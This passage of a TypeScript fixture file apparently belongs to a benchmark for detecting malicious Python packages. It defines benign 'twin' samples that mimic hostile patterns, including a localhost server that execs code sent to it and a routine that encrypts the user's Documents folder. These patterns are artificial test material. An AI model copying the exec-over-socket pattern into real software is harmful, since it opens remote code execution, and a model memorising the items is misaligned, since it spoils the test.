
def _serve(port=8765):
    srv = socket.socket()
    srv.bind(('127.0.0.1', port))
    srv.listen(1)
    conn, _ = srv.accept()
    req = json.loads(conn.recv(4096))
    conn.send(json.dumps({'echo': req}).encode())

def start():
    threading.Thread(target=_serve, daemon=True).start()
`,
  }),
  v('twin-remote-exec-server-user-started', 'remote-control', '', {
    'pkgx/gateway.py': py`import socket

def serve_forever(port):
    """Run code sent by the controlling host (the library's documented purpose; started by the user)."""
    srv = socket.socket()
    srv.bind(('127.0.0.1', port))
    srv.listen(1)
    conn, _ = srv.accept()
    ns = {}
    while True:
        src = conn.recv(65536)
        if not src:
            break
        exec(compile(src, '<remote>', 'exec'), ns)
`,
  }),
  v('twin-clipboard-history', 'clipboard', '', {
    'pkgx/__init__.py': py`import re, pyperclip as pc
HISTORY = []

def snapshot():
    t = pc.paste()
    if t and not re.fullmatch(r'\s*', t):
        HISTORY.append(t)

def restore(i):
    pc.copy(HISTORY[i])
`,
  }),
  v('twin-wallet-copy-own-address', 'clipboard', '', {
    'pkgx/__init__.py': py`import re, pyperclip
ADDRESS_RE = re.compile(r'^0x[a-fA-F0-9]{40}$')

def copy_address(addr):
    if not ADDRESS_RE.match(addr):
        raise ValueError(addr)
    pyperclip.copy(addr)
`,
  }),
  v('twin-backup-encrypt-documents', 'destructive', '', {
    'pkgx/backup.py': py`import os, tarfile, io
from cryptography.fernet import Fernet

def backup(key, out='backup.bin'):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w:gz') as t:
        for root, _, files in os.walk(os.path.expanduser('~/Documents')):
            for n in files:
                t.add(os.path.join(root, n))
    open(out, 'wb').write(Fernet(key).encrypt(buf.getvalue()))
`,
  }),
  v('twin-cache-cleanup', 'destructive', '', {
    'pkgx/__init__.py': py`import os, time
CACHE = os.path.expanduser('~/.cache/pkgx')
for root, _, files in os.walk(CACHE):
    for n in files:
        p = os.path.join(root, n)
        if time.time() - os.path.getmtime(p) > 86400 * 30:
            os.remove(p)
`,
  }),
];

export const PKG22PY_VARIANTS: readonly PypiVariant[] = [...DOWNLOAD_RUN, ...COLLECT_SEND, ...PERSISTENCE, ...OBFUSCATED, ...MORE, ...PAYLOADS, ...CONFIGURED];
export const PKG22PY_TWINS: readonly PypiVariant[] = [...TWINS, ...MORE_TWINS, ...PAYLOAD_TWINS];
